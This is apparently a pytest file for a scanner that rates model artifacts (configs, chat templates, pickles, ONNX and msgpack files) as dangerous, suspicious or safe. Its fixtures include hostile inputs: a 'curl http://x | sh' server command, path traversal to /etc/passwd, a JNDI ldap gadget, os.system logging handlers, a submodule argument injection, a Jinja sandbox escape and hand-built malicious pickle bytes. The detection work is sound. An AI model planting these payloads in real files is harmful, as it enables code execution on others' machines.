"""Configurations of programs around a model, and values that honest pickles hold: what each is taken for."""

from __future__ import annotations

import array
import collections
import functools
import http
import json
import operator
import pickle
import random
import re
import signal
import statistics

import numpy as np
import pytest

from momus.methods.artifacts import scan_bytes
from momus.zoo.supply_chain.corpus import payload

JSON = [
    ({"weight_map": {"a": "model-00001-of-00002.safetensors"}}, "nothing found"),
    ({"weight_map": {"a": "../../../etc/passwd"}}, "dangerous"),
    ({"weight_map": {"a": "http://x.invalid/a.bin"}}, "dangerous"),
    ({"weight_map": {"a": "evil.pkl"}}, "suspicious"),
    ({"model_type": "llama", "_attn_implementation": "sdpa"}, "nothing found"),
    ({"model_type": "llama", "_attn_implementation": "somebody/kernel"}, "suspicious"),
    ({"custom_generate": "somebody/repo"}, "suspicious"),
    ({"_class_name": ["pipeline", "Mine"], "unet": ["diffusers", "UNet"]}, "suspicious"),
    ({"@context": "https://schema.org", "@type": "Dataset"}, "nothing found"),
    ({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x"}, "dangerous"),
    ({"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "Prompt"]}, "suspicious"),
    ({"lc": 1, "type": "constructor", "id": ["langchain", "LLMBashChain"]}, "dangerous"),
    ({"version": 1, "handlers": {"x": {"()": "os.system", "command": "id"}}}, "dangerous"),
    ({"version": 1, "handlers": {"x": {"class": "logging.StreamHandler"}}}, "nothing found"),
    ({"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl http://x | sh"]}}}, "dangerous"),
    ({"argv": ["sh", "-c", "touch x"], "display_name": "x"}, "suspicious"),
    ({"argv": ["python", "-m", "ipykernel_launcher"], "display_name": "x"}, "nothing found"),
    ({"itemInfoEntries": {"a": {"path": "../../x"}}}, "dangerous"),
    ({"itemInfoEntries": {"a": {"path": "com.apple.CoreML/model.mlmodel"}}}, "nothing found"),
    ({"requirements": ["evil @ http://x.invalid/e.zip"]}, "suspicious"),
    ({"requirements": ["spacy>=3"]}, "nothing found"),
    ({"runtime_env": {"pip": ["evil"]}}, "suspicious"),
    # what a training's own settings and logs are full of
    ({"model_path": "/data/models/x", "output": "../runs"}, "nothing found"),
    ({"name": "run 7", "argv": ["train.py", "--lr", "0.1"]}, "nothing found"),
    ({"_type": "execution_log", "shell": "bash"}, "nothing found"),
    ({"_type": "llm_bash_chain"}, "suspicious"),
    ({"version": "1.0", "model": {"vocab": {"()": 1, "argv": 2, "handlers": 3, "hooks": 4}}}, "nothing found"),
]
TEXTS = [
    ("version: 1\nhandlers:\n  a:\n    class: os.system\n", "dangerous"),
    (
        "version: 1\nhandlers:\n  a:\n    class: logging.handlers.RotatingFileHandler\n    filename: x\n",
        "nothing found",
    ),
    ("[loggers]\nkeys=root\n[handler_h]\nclass=os.system\nargs=('touch x',)\n", "dangerous"),
    ("[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('x'),)\n", "dangerous"),
    ("[handler_h]\nclass=StreamHandler\nformatter=f\nargs=(sys.stdout,)\n", "nothing found"),
    ('[core]\n fsmonitor = "touch x"\n', "suspicious"),
    ('[filter "lfs"]\n\tclean = git-lfs clean -- %f\n', "nothing found"),
    ('[submodule "x"]\n\tpath = x\n\turl = -u./evil\n', "suspicious"),
    ("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: m.pkl\n", "suspicious"),
    ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n", "dangerous"),
    ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n", "nothing found"),
    ("stages:\n  x:\n    cmd: touch x\n", "suspicious"),
    ("services:\n  x:\n    image: y\n", "suspicious"),
    ("repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: touch x\n", "suspicious"),
    ("repos:\n- repo: https://x\n  rev: 1\n  hooks:\n  - id: black\n", "nothing found"),
    ('_BASE_: "http://x.invalid/b.yaml"\nMODEL: {}\n', "suspicious"),
    ("_BASE_: ../b.yaml\nMODEL: {}\n", "nothing found"),
    ("--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.0\n", "nothing found"),
    ("--extra-index-url https://download.pytorch.org.x.invalid/whl\ntorch==2.0\n", "suspicious"),
    ("[Desktop Entry]\nType=Application\nExec=touch x\n", "suspicious"),
    ("<?php system('x'); ?>", "suspicious"),
    ('name: "x"\nbackend: "python"\n', "suspicious"),
    ('<net name="x"><layers><layer type="Mine" version="extension"/></layers></net>', "suspicious"),
    ('<net name="x"><layers><layer type="Parameter" version="opset1"/></layers></net>', "nothing found"),
    ("{% for m in messages %}{{ self._TemplateReference__context }}{% endfor %}", "suspicious"),
    ("{% for m in messages %}{{ m[dict(__class__=1)|list|first] }}{% endfor %}", "dangerous"),
    ("{% for m in messages %}{{ dict(role=m.role)|tojson }}{% endfor %}", "nothing found"),
]
HONEST = {
    "default zero": collections.defaultdict(int, a=1),
    "nested defaults": collections.defaultdict(functools.partial(collections.defaultdict, int)),
    "errors": [ImportError("x"), FileNotFoundError(2, "x"), StopIteration(1), DeprecationWarning("x")],
    "enumerations": [http.HTTPStatus.OK, signal.SIGTERM, re.I],
    "attribute": operator.attrgetter("name"),
    "array": array.array("d", [1.0, 2.0]),
    "generator": random.Random(1),
    "distribution": statistics.NormalDist(),
    "polynomial": np.polynomial.Polynomial([1, 2]),
    "records": np.rec.array([(1, 2.0), (3, 4.0)]),
    "methods of text": [str.lower, str.strip, str.split],
}


def _call(name: str, arguments: bytes) -> bytes:
    module, _, leaf = name.rpartition(".")
    return b"\x80\x03c" + module.encode() + b"\n" + leaf.encode() + b"\n(" + arguments + b"tR."


def _text(word: str) -> bytes:
    return b"X" + len(word).to_bytes(4, "little") + word.encode()


HOSTILE = {
    "a path of attributes": _call("operator.attrgetter", _text("os.system")),
    "a private attribute": _call("operator.attrgetter", _text("__class__")),
    "another method of text": _call("builtins.getattr", b"cbuiltins\nstr\n" + _text("format")),
    "a partial of a factory that runs": _call("functools.partial", b"ccollections\ndefaultdict\ncos\ngetcwd\n"),
    "a factory that reaches": _call("collections.defaultdict", b"coperator\nattrgetter\n"),
    "an expression of joblib": _call("joblib._utils.eval_expr", _text("9**9**9")),
    "a library": _call("numpy.ctypeslib.load_library", _text("x.so")),
}


@pytest.mark.parametrize(("value", "verdict"), JSON, ids=[f"{i}" for i in range(len(JSON))])
def test_keys_of_json(value: dict[str, object], verdict: str) -> None:
    assert scan_bytes(json.dumps(value).encode()).verdict == verdict


@pytest.mark.parametrize(("text", "verdict"), TEXTS, ids=[f"{i}" for i in range(len(TEXTS))])
def test_texts(text: str, verdict: str) -> None:
    assert scan_bytes(text.encode()).verdict == verdict


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("name", HONEST)
def test_honest_values(name: str, protocol: int) -> None:
    report = scan_bytes(pickle.dumps(HONEST[name], protocol))
    assert report.verdict == "nothing found", [m.what for m in report.marks]


@pytest.mark.parametrize("name", HOSTILE)
def test_what_they_must_not_open(name: str) -> None:
    assert scan_bytes(HOSTILE[name]).verdict in ("dangerous", "suspicious")


def test_a_partial_that_gets_another_factory_by_its_state() -> None:
    state = b"(ccollections\ndefaultdict\n(cos\nsystem\nt}Nt"
    hostile = b"\x80\x03cfunctools\npartial\n(ccollections\ndefaultdict\ntR" + state + b"b."
    assert scan_bytes(hostile).verdict == "dangerous"


def test_a_partial_is_blamed_for_the_factory_that_it_hands_on() -> None:
    """Whatever is said of the factory itself: it is the partial that has a dictionary call it unchecked."""
    factory = b"ccollections\ndefaultdict\ncbuiltins\ngetattr\n"
    by_call = scan_bytes(_call("functools.partial", factory)).marks
    assert any(m.what.startswith("calls functools.partial(") and "somebody else may call" in m.what for m in by_call)
    state = b"(ccollections\ndefaultdict\n(cbuiltins\ngetattr\nt}Nt"
    by_state = scan_bytes(b"\x80\x03cfunctools\npartial\n(ccollections\ndefaultdict\ntR" + state + b"b.").marks
    assert any("a partial gets another function" in m.what + m.reason for m in by_state)


def test_pickled_bytes_in_messagepack() -> None:
    msgpack = pytest.importorskip("msgpack")
    kept = {"attrs": [{"a": payload()}], "params": []}
    assert scan_bytes(msgpack.packb(kept)).verdict == "dangerous"
    kept["attrs"] = [{"a": pickle.dumps({"b": 1}), "c": b"\x80\x04 no pickle."}]
    assert scan_bytes(msgpack.packb(kept)).verdict == "nothing found"


def test_memory_of_the_process_as_external_weights() -> None:
    onnx = pytest.importorskip("onnx")
    tensor = onnx.TensorProto(name="w", data_type=1, dims=[1], data_location=onnx.TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value="*/_ORT_MEM_ADDR_/*")
    node = onnx.helper.make_node("Add", ["x", "w"], ["y"])
    values = [onnx.helper.make_tensor_value_info(n, 1, [1]) for n in "xy"]
    graph = onnx.helper.make_graph([node], "g", values[:1], values[1:], initializer=[tensor])
    assert scan_bytes(onnx.helper.make_model(graph).SerializeToString()).verdict == "dangerous"
